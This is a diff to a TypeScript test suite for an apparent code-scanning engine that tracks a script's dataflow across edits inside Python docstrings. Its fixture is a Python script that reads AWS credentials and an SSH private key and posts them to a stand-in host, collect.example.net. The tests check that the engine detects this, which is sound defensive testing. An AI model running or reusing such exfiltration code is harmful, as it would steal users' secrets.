@@ -708,6 +708,47 @@ describe('engine result reuse: a script\'s dataflow carried across an edit insid
     assert.ok(output.findings.some((finding) => /GITHUB_TOKEN/.test(finding.message)), 'the code after the line break is read');
   });
 
+  it('carries a Python script\'s dataflow across edits inside a docstring, and walks it again where the string could change', async () => {
+    const script = (parts: { module?: string; fn?: string; fString?: string; argument?: string; key?: string }): string =>
+      [
+        `"""Collects the report.${parts.module ?? ''}"""`,
+        'import os, requests',
+        'creds = open(os.path.expanduser("~/.aws/credentials")).read()',
+        'def send(data):',
+        `    '''Sends the rows.${parts.fn ?? ''}'''`,
+        '    requests.post("https://collect.example.net/c", data=data)',
+        'for area in ("a", "b"):',
+        `    f"area {area}${parts.fString ?? ''}"`,
+        'send(creds)',
+        `requests.post("https://collect.example.net/d${parts.argument ?? ''}", json={"k": creds})`,
+        `key = "~/.ssh/id_rs${parts.key ?? ''}"`,
+        'requests.post("https://collect.example.net/k", data=open(os.path.expanduser(key)).read())',
+        '',
+      ].join('\n');
+    const steps = [
+      script({}),
+      script({ module: ' D' }),
+      script({ module: ' Dr' }),
+      script({ module: ' Dr', fn: ' x' }),
+      // The other quote character cannot end the string.
+      script({ module: ' Dr', fn: ' x"y' }),
+      // Its own can, and so can one before the edit (`''` and the closing `'''` were its end).
+      script({ module: ' Dr', fn: " x\"y'" }),
+      script({ module: ' Dr', fn: " x\"y'z" }),
+      // An f-string runs code in its braces; a backslash escapes what follows it.
+      script({ module: ' Dr', fn: " x\"y'z", fString: ' z' }),
+      script({ module: ' D\\r', fn: " x\"y'z", fString: ' z' }),
+      // A string passed to a call is a value the dataflow reads.
+      script({ module: ' D\\r', fn: " x\"y'z", fString: ' z', argument: '2' }),
+      // One that names the file read: now a private key.
+      script({ module: ' D\\r', fn: " x\"y'z", fString: ' z', argument: '2', key: 'a' }),
+    ];
+    const walks = await walksPerStep(PythonWalker, steps.map(bundle));
+    assert.deepEqual(walks, [1, 0, 0, 0, 0, 1, 1, 1, 1, 1, 1]);
+    assert.match(findingsOf(await getEngine(), bundle(steps[10] as string)), /private key|id_rsa/i, 'the key read after the last keystroke is found');
+    assert.match(findingsOf(await getEngine(), bundle(steps[9] as string)), /credentials[^"]*collect\.example\.net/, 'the script has flows to carry');
+  });
+
   it('carries a shell script\'s dataflow across comments among its statements, and walks it again for one inside a command substitution', async () => {
     const shell = (comments: { top?: string; fn?: string; loop?: string; sub?: string }): string =>
       [
@@ -759,6 +800,33 @@ describe('engine result reuse: a script\'s dataflow carried across an edit insid
       }
     }
     assert.ok(edited > 100, `only ${edited} fixture scripts`);
+  });
+
+  it('gives the fresh engine\'s findings as a docstring is typed into the middle of every rule fixture\'s Python scripts', async () => {
+    const reusing = await createEngine({ assetsDir: DIST_DIR, reuseResults: true });
+    const fresh = await getEngine();
+    let edited = 0;
+    for (const folder of ruleFolders()) {
+      const tests = readRuleTests(folder.dir);
+      for (const testCase of [...tests.valid, ...tests.invalid]) {
+        for (const script of Object.keys(testCase.files).filter((name) => name.endsWith('.py'))) {
+          const lines = (testCase.files[script] ?? '').split('\n');
+          if (lines.length < 3) continue;
+          // A string statement put before the middle line (a docstring among statements, or part
+          // of an expression or another string: wherever it lands), then typed into.
+          const middle = Math.floor(lines.length / 2);
+          const indent = /^[ \t]*/.exec(lines[middle] ?? '')?.[0] ?? '';
+          const typed = (text: string): string => [...lines.slice(0, middle), `${indent}"""${text}"""`, ...lines.slice(middle)].join('\n');
+          const steps = [typed('N'), typed('No'), typed('Note'), typed("Note'"), typed("Note's"), typed('Not')];
+          for (const [step, text] of steps.entries()) {
+            const bundle = bundleFromFiles({ ...testCase.files, [script]: text }, testCase.dirName);
+            assert.equal(findingsOf(reusing, bundle), findingsOf(fresh, bundle), `${folder.folderName}: ${testCase.name}, ${script}, step ${step}`);
+          }
+          edited++;
+        }
+      }
+    }
+    assert.ok(edited > 50, `only ${edited} fixture scripts`);
   });
 
   it('moves the carried flows with the text typed above them', async () => {
